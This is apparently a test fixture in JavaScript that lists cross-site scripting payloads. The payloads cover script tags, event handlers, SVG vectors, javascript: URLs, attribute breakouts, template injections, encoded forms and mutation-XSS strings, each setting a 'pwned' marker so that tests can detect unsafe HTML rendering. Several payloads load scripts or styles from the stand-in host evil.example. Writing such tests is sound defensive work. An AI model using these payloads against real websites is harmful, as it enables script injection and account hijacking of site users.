/*
 * Texts that run a script if a screen inserts them as HTML. Each contains the word 'pwned', which tests
 * search for on the screen and which the script sets as a global variable.
 */

const SCRIPTS = [
  '<script>window.pwned=1</script>',
  '<ScRiPt>window.pwned=1</sCrIpT>',
  '<script src=//evil.example/pwned.js></script>',
  '<script src="https://evil.example/pwned.js" async></script>',
  '<script type=module>window.pwned=1</script>',
  '<script>/*<!--*/window.pwned=1//--></script>',
  '</script><script>window.pwned=1</script>',
  '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
  '<script/x>window.pwned=1</script>',
  '<script\u2028>window.pwned=1</script>',
  '<script>top["al"+"ert"]("pwned")</script>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><script href="data:text/javascript,pwned=1"/></svg>',
  '<script nonce="">window.pwned=1</script>',
]

const HANDLERS = [
  '<img src=x onerror=window.pwned=1>',
  '<img src=x onerror="alert(\'pwned\')">',
  '<img/src/onerror=window.pwned=1>',
  '<IMG SRC=x ONERROR=window.pwned=1>',
  '<img src=x onerror=window["pwned"]=1//',
  '<img src=`x`onerror=window.pwned=1>',
  '<img srcset=x onerror=pwned=1>',
  '<image src=x onerror=pwned=1>',
  '<body onload=window.pwned=1>',
  '<body onpageshow=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1>',
  '<select autofocus onfocus=pwned=1>',
  '<textarea autofocus onfocus=pwned=1>',
  '<button autofocus onfocus=pwned=1>a</button>',
  '<details open ontoggle=window.pwned=1>',
  '<video src=x onerror=window.pwned=1>',
  '<video><source onerror=window.pwned=1>',
  '<audio src=x onerror=window.pwned=1>',
  '<marquee onstart=window.pwned=1>a</marquee>',
  '<div onmouseover=window.pwned=1>over</div>',
  '<a onclick=window.pwned=1 href=#>click</a>',
  '<p style=animation:x onanimationstart=pwned=1>',
  '<object data=x onerror=window.pwned=1>',
  '<iframe onload=window.pwned=1></iframe>',
  '<link rel=stylesheet href=x onerror=pwned=1>',
  '<style onload=window.pwned=1></style>',
  '<div popover id=p onbeforetoggle=pwned=1>',
  '<form><button formaction=x onclick=pwned=1>',
]

const DRAWINGS = [
  '<svg onload=window.pwned=1>',
  '<svg/onload=window.pwned=1>',
  '<svg onload=pwned=1>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x>',
  '<svg><set onbegin=pwned=1 attributeName=x>',
  '<svg><a xlink:href="javascript:pwned=1"><text>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,pwned#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=pwned=1></foreignObject>',
  '<svg><image href=x onerror=pwned=1></svg>',
  '<math><mtext><img src=x onerror=pwned=1></math>',
  '<math href="javascript:pwned=1">a</math>',
]

const ADDRESSES = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  ' javascript:window.pwned=1',
  'java\tscript:window.pwned=1',
  'java\nscript:window.pwned=1',
  'javascript&colon;window.pwned=1',
  'javascript://evil.example/%0Awindow.pwned=1',
  'javascript:/*--></title>*/window.pwned=1',
  'data:text/html,<script>pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+pwned',
  'vbscript:msgbox("pwned")',
  'blob:https://evil.example/pwned',
  'https://evil.example/"onmouseover="pwned=1',
  'https://evil.example/<script>pwned=1</script>',
  "https://evil.example/'><img/src/onerror=pwned=1>",
  '//evil.example/pwned',
  '<a href="javascript:window.pwned=1">here</a>',
  '<a href="&#106;avascript:pwned=1">here</a>',
  '<a href="java&Tab;script:pwned=1">here</a>',
  '<form action="javascript:pwned=1"><button>a</button>',
  '<iframe src="javascript:parent.pwned=1">',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<embed src="javascript:pwned=1">',
  '<object data="data:text/html,<script>pwned=1</script>">',
  '<base href="//evil.example/pwned/">',
  '<meta http-equiv=refresh content="0;//evil.example/pwned">',
]

const BREAKERS = [
  '"><script>window.pwned=1</script>',
  "'><script>window.pwned=1</script>",
  '" onmouseover="window.pwned=1',
  "' onfocus='window.pwned=1' autofocus='",
  '" autofocus onfocus=pwned=1 x="',
  '`onmouseover=window.pwned=1`',
  '</textarea><img src=x onerror=pwned=1>',
  '</title><svg onload=window.pwned=1>',
  '</option></select><svg onload=pwned=1>',
  '</style><svg onload=window.pwned=1>',
  '--><svg onload=window.pwned=1>',
  ']]><svg onload=window.pwned=1>',
  '</td></table><img src=x onerror=pwned=1>',
  "';window.pwned=1;//",
  '";window.pwned=1;//',
  '\\";window.pwned=1;//',
  '</script><svg onload=pwned=1><script>',
]

const TEMPLATES = [
  '{{constructor.constructor("pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a visitor might type this
  '${window.pwned=1}',
  '<%= pwned = 1 %>',
  '#{pwned=1}',
  '{"__proto__":{"innerHTML":"<img/src/onerror=pwned=1>"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<svg onload=pwned=1>"}}',
  '[pwned](javascript:pwned=1)',
  '![pwned](x"onerror="pwned=1)',
]

const ENCODED = [
  '&lt;script&gt;pwned=1&lt;/script&gt;',
  '&#60;script&#62;pwned=1&#60;/script&#62;',
  '%3Cscript%3Epwned=1%3C/script%3E',
  '\\u003cscript\\u003epwned=1\\u003c/script\\u003e',
  '\\x3csvg onload=pwned=1\\x3e',
  '＜script＞window.pwned=1＜/script＞',
  '‹svg onload=window.pwned=1›',
  '+ADw-script+AD4-pwned=1+ADw-/script+AD4-',
  '<\u200bscript>window.pwned=1</script>',
  '\u202e<svg onload=window.pwned=1>',
]

const STYLES = [
  '<style>@import "//evil.example/pwned.css";</style>',
  '<div style="background:url(//evil.example/pwned)">',
  '<div style="width:expression(pwned=1)">',
  '<link rel=stylesheet href=//evil.example/pwned.css>',
]

// Payloads that become harmful when one parser writes HTML that another parser reads differently.
const TWICE_READ = [
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">',
]

export const PAYLOADS = [
  SCRIPTS,
  HANDLERS,
  DRAWINGS,
  ADDRESSES,
  BREAKERS,
  TEMPLATES,
  ENCODED,
  STYLES,
  TWICE_READ,
].flat()
